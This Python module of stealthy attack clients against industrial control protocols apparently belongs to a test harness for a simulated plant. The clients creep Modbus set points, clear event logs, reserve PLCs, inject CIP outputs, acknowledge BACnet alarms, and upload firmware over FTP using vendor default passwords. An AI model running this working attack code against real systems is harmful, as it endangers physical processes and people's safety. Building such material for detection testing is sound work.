"""Attacks that look like work: small steps, one question at a time, what others say said by somebody else."""

from __future__ import annotations

import asyncio
import contextlib
import ftplib
import io
import struct
import time
from typing import TYPE_CHECKING, Final

from asyncua import Client

from interlock.plant.protocols import cip, dnp3, iec104, modbus, s7comm
from proving.clients.talk import Talk, held_open, tell
from proving.clients.ua import nodes_below

if TYPE_CHECKING:
    from collections.abc import Callable


_MODBUS: Final = 502
_CLASSES: Final = b"\x3c\x02\x06\x3c\x03\x06\x3c\x04\x06\x3c\x01\x06"
_INTERROGATION: Final = 100


def setpoint_crept(to: str) -> None:
    """A level's set point, a hundredth at a time: no step is large."""
    with Talk(to, _MODBUS) as talk:
        for number in range(14):
            talk.say(modbus.adu(number + 1, 1, modbus.write_register(0, 1500 + 15 * number)), 2.5)


def same_written(to: str) -> None:
    """The set point that is there already, written every second: nobody else's value stays."""
    with Talk(to, _MODBUS) as talk:
        for number in range(40):
            talk.say(modbus.adu(number + 1, 1, modbus.write_register(0, 1500)), 0.5)


def blocks_slowly(to: str) -> None:
    """Data blocks that the panel never reads, one every three seconds."""
    with Talk(to, 102) as talk:
        talk.say(s7comm.connect())
        talk.say(s7comm.setup(1))
        for number in range(2, 11):
            item = bytes((0x12, 10, 0x10, 2)) + struct.pack("!HHB", 64, number, 0x84) + bytes(3)
            talk.say(s7comm.job(number, b"\x04\x01" + item), 2.5)


def counters_cleared(to: str) -> None:
    """Modbus: diagnostic counters and the event log read, then cleared (functions 8, 11, 12)."""
    asked = [struct.pack("!BHH", 8, sub, 0) for sub in (11, 12, 13, 14)]
    asked += [b"\x0b", b"\x0c", *(struct.pack("!BHH", 8, sub, 0) for sub in (10, 20))]
    with Talk(to, _MODBUS) as talk:
        for number, pdu in enumerate(asked):
            talk.say(modbus.adu(number + 1, 1, pdu), 0.5)


def controller_reserved(to: str) -> None:
    """UMAS: taken into reservation, and kept so: nobody else can load it."""
    asked = [b"\x5a\x00\x02", b"\x5a\x00\x01\x00", b"\x5a\x00\x10\x2b\x00\x00\x00\x04XCPP"]
    with Talk(to, _MODBUS) as talk:
        for number, pdu in enumerate([*asked, *[b"\x5a\x01\x12"] * 12]):
            talk.say(modbus.adu(number + 1, 1, pdu), 0.5)


def octets_slowly(to: str) -> None:
    """Forty connections, each with a request of which an octet comes a second (slowloris)."""
    held = held_open(to, _MODBUS, 40, 0.2)
    for octet in modbus.adu(1, 1, modbus.read(3, 0, 2))[:9]:
        for talk in held:
            with contextlib.suppress(OSError):
                talk.send(bytes((octet,)))
        time.sleep(1.0)
    for talk in held:
        talk.close()


def integrity_poured(to: str) -> None:
    """DNP3: everything asked for, five times a second, by the panel."""
    with Talk(to, 20000) as talk:
        for number in range(90):
            talk.say(dnp3.request(number & 15, 1, _CLASSES), 0.15)


def listener_attached(to: str) -> None:
    """IEC 104: data transfer started, and nothing asked: the station tells by itself."""
    sequence = iec104.Master(12)
    with Talk(to, 2404, 1.0) as talk:
        answer = talk.say(iec104.u_frame(iec104.STARTDT))
        for _ in range(16):
            sequence.heard([answer] if answer[:1] == b"\x68" else [])
            answer = talk.say(sequence.acknowledge(), 0.5)


def interrogated(to: str) -> None:
    """IEC 104: one general interrogation, by a machine that never asked."""
    master = iec104.Master(12)
    with Talk(to, 2404, 1.0) as talk:
        talk.say(iec104.u_frame(iec104.STARTDT))
        talk.say(master.command(_INTERROGATION, 0, b"\x14"), 2.0)


def identities_one_by_one(to: str) -> None:
    """EtherNet/IP: ListIdentity to one address after another, seven seconds apart."""
    net = to.rpartition(".")[0]
    for host in (10, 11, 14, 15, 17):
        tell(f"{net}.{host}", 44818, struct.pack("<HH", 0x63, 0) + bytes(20), pause_s=0.3)
        time.sleep(3.0)


def inputs_owned(to: str) -> None:
    """CIP: an exclusive owner's connection to a controller's assemblies, and output data to it (Forward Open)."""
    path = bytes((0x20, 4, 0x24, 151, 0x2C, 150, 0x2C, 100))
    head = struct.pack("<BBIIHHIB3x", 10, 14, 0x11110001, 0x11110002, 0x1234, 0x1337, 0xC0FFEE, 0)
    sizes = struct.pack("<IHIHB", 20000, 0x4806, 20000, 0x4806, 1)
    opened = bytes((0x54, 2, 0x20, 6, 0x24, 1)) + head + sizes + bytes((len(path) // 2,)) + path
    with Talk(to, 44818) as talk:
        session = cip.session_of(talk.say(cip.register()))
        for number in range(3):
            talk.say(cip.unconnected(session, opened, number + 1), 0.5)
        data = struct.pack("<HHHIIHHH", 2, 0x8002, 8, 0x11110001, 1, 0xB1, 8, 1) + b"\1\0\0\0" + bytes(2)
        tell(to, 2222, *[data] * 20, pause_s=0.1)


def plus_greeted(to: str) -> None:
    """S7comm-plus: a session asked for, as newer engineering tools do, of a controller that has the older kind."""
    create = bytes.fromhex("720100c5310000 04ca 0000 0001 0000 0120 36 00 0000 0004".replace(" ", ""))
    for _ in range(3):
        with Talk(to, 102) as talk:
            talk.say(s7comm.connect())
            talk.say(struct.pack("!BBH", 3, 0, len(create) + 7) + b"\x02\xf0\x80" + create, 1.0)


def models_looked_at(to: str) -> None:
    """MMS: a station greeted at port 102 as IEC 61850 clients do, on three machines."""
    net = to.rpartition(".")[0]
    for host in (18, 19, 12):
        with Talk(f"{net}.{host}", 102) as talk:
            talk.say(bytes.fromhex("0300001611e00000000100c0010dc2020001c1020000"), 0.5)
            talk.say(bytes.fromhex("0300000d02f0800d 04 05 0601 00".replace(" ", "")), 0.5)


def banners(to: str) -> None:
    """Whatever listens asked for a web page, as search engines of devices do."""
    net = to.rpartition(".")[0]
    for host, port in ((10, 502), (11, 502), (12, 102), (14, 44818), (18, 2404), (19, 20000)):
        with Talk(f"{net}.{host}", port) as talk:
            talk.say(b"GET / HTTP/1.0\r\n\r\n", 0.8)


def firmware_by_ftp(to: str) -> None:
    """FTP: accounts that controllers are delivered with, and a firmware image put there."""
    for user, password in (("admin", "admin"), ("USER", "USER"), ("sysdiag", "factorycast@schneider")):
        with contextlib.suppress(Exception), ftplib.FTP(to, timeout=2) as talk:
            talk.login(user, password)
            talk.storbinary("STOR /fw/firmware.bin", io.BytesIO(bytes(range(256)) * 160))
        time.sleep(0.5)


def nodes_inside(to: str) -> None:
    """OPC UA: everything browsed by the historian, which only ever reads some nodes."""

    async def do() -> None:
        async with Client(f"opc.tcp://{to}:4840", timeout=2) as client:
            await nodes_below(client, 40)

    with contextlib.suppress(Exception):
        asyncio.run(do())


def methods_called(to: str) -> None:
    """OPC UA: methods of the server called, one after another, with what they do not want."""

    async def do() -> None:
        async with Client(f"opc.tcp://{to}:4840", timeout=2) as client:
            server = client.nodes.server
            for number in (11492, 12873, 12749, 14326):
                with contextlib.suppress(Exception):
                    await server.call_method(client.get_node(f"i={number}"), 1)
                await asyncio.sleep(0.5)

    with contextlib.suppress(Exception):
        asyncio.run(do())


def alarms_acknowledged(to: str) -> None:
    """BACnet: alarms of a controller acknowledged by a stranger."""
    apdus = []
    for number in range(3):
        ack = bytes.fromhex("0901 1c 00000001 2902".replace(" ", "")) + b"\x3e\x19\x01\x3f"
        ack += b"\x4c\x00ok" + b"\x5e\x19\x02\x5f"
        apdus.append(
            bytes((0x81, 0x0A)) + struct.pack("!H", 10 + len(ack)) + b"\1\4" + bytes((0, 5, number, 0)) + ack
        )
    tell(to, 47808, *apdus, pause_s=0.7)


CLIENTS: Final[dict[str, Callable[[str], None]]] = {
    "setpoint-crept": setpoint_crept,
    "same-written": same_written,
    "blocks-slowly": blocks_slowly,
    "counters-cleared": counters_cleared,
    "controller-reserved": controller_reserved,
    "octets-slowly": octets_slowly,
    "integrity-poured": integrity_poured,
    "listener-attached": listener_attached,
    "interrogated": interrogated,
    "identities-one-by-one": identities_one_by_one,
    "inputs-owned": inputs_owned,
    "plus-greeted": plus_greeted,
    "models-looked-at": models_looked_at,
    "banners": banners,
    "firmware-by-ftp": firmware_by_ftp,
    "nodes-inside": nodes_inside,
    "methods-called": methods_called,
    "alarms-acknowledged": alarms_acknowledged,
}
